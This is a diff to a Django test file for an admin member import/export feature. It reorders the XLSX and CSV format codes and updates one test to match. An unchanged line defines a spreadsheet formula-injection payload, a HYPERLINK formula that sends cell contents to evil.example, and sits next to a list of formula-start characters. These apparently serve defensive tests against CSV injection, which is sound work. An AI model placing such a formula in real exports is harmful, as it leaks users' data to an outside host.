@@ -23,7 +23,8 @@ pytestmark = pytest.mark.django_db
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
-FORMATS = {"csv": "0", "xlsx": "1"}
+# The admin offers XLSX first, then CSV.
+FORMATS = {"xlsx": "0", "csv": "1"}
 
 
 def is_number(text):
@@ -182,7 +183,7 @@ def test_a_phone_number_comes_back_from_a_re_imported_export_without_its_quote(
     with path.open("rb") as upload:
         preview = admin_client.post(
             "/admin/members/member/import/",
-            {"import_file": upload, "format": "0", "resource": "0"},
+            {"import_file": upload, "format": FORMATS["csv"], "resource": "0"},
         )
 
     assert [row.import_type for row in preview.context["result"].rows] == ["skip"]
